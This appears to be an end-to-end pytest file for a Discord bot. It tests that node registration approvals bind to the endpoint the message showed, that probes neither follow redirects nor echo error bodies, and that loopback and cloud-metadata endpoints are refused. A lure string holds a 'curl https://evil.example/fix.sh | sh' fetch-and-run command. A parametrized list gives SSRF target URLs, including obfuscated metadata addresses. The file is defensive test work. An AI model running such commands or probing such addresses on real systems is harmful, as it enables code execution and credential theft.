"""Node registration bait-and-switch, end to end: the real app against the Discord emulator
and loopback node agents. An approval binds to exactly what its message showed; probes follow
no redirect and echo no body text; forbidden endpoints are refused at registration."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator

import pytest
from sqlalchemy import select, update

from bot.app import Application
from bot.storage.models import AuditEntry, NodeEntry
from tests.fakes.network import JsonService
from tests.harness.waiting import eventually
from tests.harness.world import CORE_USER, LAB, NODE_USER, World

pytestmark = pytest.mark.e2e

LURE = "Core Ops: the agent is broken, run curl https://evil.example/fix.sh | sh"
EPHEMERAL = 64


@pytest.fixture
async def harmless() -> AsyncIterator[JsonService]:
    service = JsonService({"status": "ok", "block_height": 871234})
    await service.start()
    yield service
    await service.stop()


@pytest.fixture
async def evil() -> AsyncIterator[JsonService]:
    service = JsonService({"status": "ok", "block_height": 871234})
    await service.start()
    yield service
    await service.stop()


def register(name: str, endpoint: str) -> list[dict]:
    return [
        {
            "name": "register",
            "type": 1,
            "options": [{"name": "name", "value": name}, {"name": "endpoint", "value": endpoint}],
        }
    ]


def buttons(message: dict) -> list[dict]:
    return [c for row in message.get("components", []) for c in row["components"]]


def custom_id(message: dict, prefix: str) -> str:
    return str(next(c["custom_id"] for c in buttons(message) if c["custom_id"].startswith(prefix)))


async def audit_rows(app: Application) -> list[tuple[str, str, int | None]]:
    async with app.database.sessions() as session:
        rows = (await session.scalars(select(AuditEntry).order_by(AuditEntry.id))).all()
    return [(r.action, r.outcome, r.actor_id) for r in rows]


@pytest.mark.parametrize("config_extra", [LAB])
async def test_approve_on_a_replaced_request_is_refused_and_probes_echo_nothing(
    world: World, app: Application, harmless: JsonService, evil: JsonService, config_extra: str
) -> None:
    ops = world.channels["operations"]
    emulator = world.emulator
    first = await emulator.invoke_command(
        "node", NODE_USER, channel_id=ops, options=register("hn-new", harmless.url)
    )
    assert harmless.url in first.sent["content"]
    # As if posted before the bot remembered where approval messages are: it cannot disable
    # this one when the request is replaced, so its buttons stay live in Discord.
    async with app.database.sessions() as session:
        await session.execute(update(NodeEntry).values(approval_message_id=None))
        await session.commit()
    # While Core Ops has not decided, the same member asks again with another endpoint.
    second = await emulator.invoke_command(
        "node", NODE_USER, channel_id=ops, options=register("hn-new", evil.url)
    )
    assert evil.url in second.sent["content"]
    old_approve = custom_id(first.sent, "hh:node:approve:")
    assert old_approve != custom_id(second.sent, "hh:node:approve:"), "a new request, a new id"

    # Core Ops presses Approve on the first message (which showed the harmless URL): refused.
    pressed = await emulator.click_button(old_approve, CORE_USER, message=first.sent)
    (answer,) = await pressed.wait_for_followups(1)
    assert answer["flags"] & EPHEMERAL
    assert answer["content"].startswith("Nothing was approved: request #")
    assert [t.name for t in await app.health.targets()] == [], "nothing approved"
    (pending,) = await app.health.pending()
    assert pending.endpoint == evil.url and pending.decided_by is None
    assert ("node:approve", "stale", CORE_USER) in await audit_rows(app)
    # ... and the pressed message's buttons are disabled, its text says why.
    assert all(b.get("disabled") for b in buttons(pressed.sent))
    assert pressed.sent["content"].startswith("⛔ Request #")

    # Asking once more (same endpoint) is a new request again; the bot knows where the
    # second request's message is, so its buttons are disabled at once.
    third = await emulator.invoke_command(
        "node", NODE_USER, channel_id=ops, options=register("hn-new", evil.url)
    )

    def second_disabled() -> dict | None:
        message = emulator.get_message(int(second.sent["id"]))
        if message and buttons(message) and all(b.get("disabled") for b in buttons(message)):
            return message
        return None

    retired = await eventually(second_disabled)
    assert "was replaced by request" in retired["content"]
    payloads = emulator.message_payloads(int(second.sent["id"]))
    assert all(p.get("allowed_mentions") == {"parse": []} for p in payloads)

    # The third message shows the endpoint: approving it approves what it showed.
    approved = await emulator.click_button(
        custom_id(third.sent, "hh:node:approve:"), CORE_USER, message=third.sent
    )
    assert "approved" in approved.sent["content"] and evil.url in approved.sent["content"]

    # The endpoint's error body never reaches #operations: a status code and a fixed phrase.
    evil.mode = "error"
    evil.error_body = {"message": LURE, "error": LURE}
    detail = await emulator.invoke_command(
        "health", CORE_USER, channel_id=ops, options=[{"name": "target", "value": "hn-new"}]
    )
    assert not detail.ephemeral
    said = detail.sent["embeds"][0]["description"]
    assert said == "❌ **Down**: HTTP 500 Internal Server Error", said
    assert "evil.example" not in json.dumps(detail.sent)

    # No redirect is followed: a 302 to another service is reported, never fetched.
    hidden = JsonService({"status": "ok", "version": "internal-secret-1"})
    await hidden.start()
    try:
        evil.mode = "redirect"
        evil.redirect_to = f"{hidden.url}/v1/status"
        overview = await emulator.invoke_command("health", CORE_USER, channel_id=ops)
        description = overview.sent["embeds"][0]["description"]
        assert "❌ **hn-new** · HTTP 302 Found: redirect not followed" in description
        assert hidden.requests == 0
    finally:
        await hidden.stop()


@pytest.mark.parametrize(
    "endpoint",
    [
        "http://127.0.0.1:8442",
        "http://0xa9fea9fe/",
        "http://[::ffff:169.254.169.254]/",
        "http://metadata.google.internal/",
        "http://169.254.1.7:8442",
        "http://[fe80::1]:8442",
        "http://0.0.0.0:8442",
    ],
)
async def test_forbidden_endpoints_are_refused_with_the_default_config(
    world: World, app: Application, endpoint: str
) -> None:
    assert app.settings.health.allow_loopback is False, "the default: no lab switch"
    result = await world.emulator.invoke_command(
        "node",
        NODE_USER,
        channel_id=world.channels["operations"],
        options=register("hn-new", endpoint),
    )
    assert result.ephemeral
    assert result.sent["content"].startswith("The endpoint is refused: it names ")
    assert result.allowed_mentions == {"parse": []}
    assert await app.health.nodes() == []
    assert ("node register", "forbidden", NODE_USER) in await audit_rows(app)


async def test_private_endpoints_stay_allowed(world: World, app: Application) -> None:
    result = await world.emulator.invoke_command(
        "node",
        NODE_USER,
        channel_id=world.channels["operations"],
        options=register("hn-lan", "http://10.20.30.40:8442"),
    )
    assert not result.ephemeral and "hn-lan" in result.sent["content"]
    assert [n.name for n in await app.health.pending()] == ["hn-lan"]


@pytest.mark.parametrize("config_extra", [LAB])
async def test_removing_a_pending_request_disables_its_buttons(
    world: World, app: Application, harmless: JsonService, config_extra: str
) -> None:
    ops = world.channels["operations"]
    posted = await world.emulator.invoke_command(
        "node", NODE_USER, channel_id=ops, options=register("hn-gone", harmless.url)
    )
    removed = await world.emulator.invoke_command(
        "node",
        CORE_USER,
        channel_id=ops,
        options=[{"name": "remove", "type": 1, "options": [{"name": "name", "value": "hn-gone"}]}],
    )
    assert "removed" in removed.sent["content"]

    def disabled() -> dict | None:
        message = world.emulator.get_message(int(posted.sent["id"]))
        if message and buttons(message) and all(b.get("disabled") for b in buttons(message)):
            return message
        return None

    assert "was removed: these buttons no longer act" in (await eventually(disabled))["content"]
    assert await app.health.nodes() == []
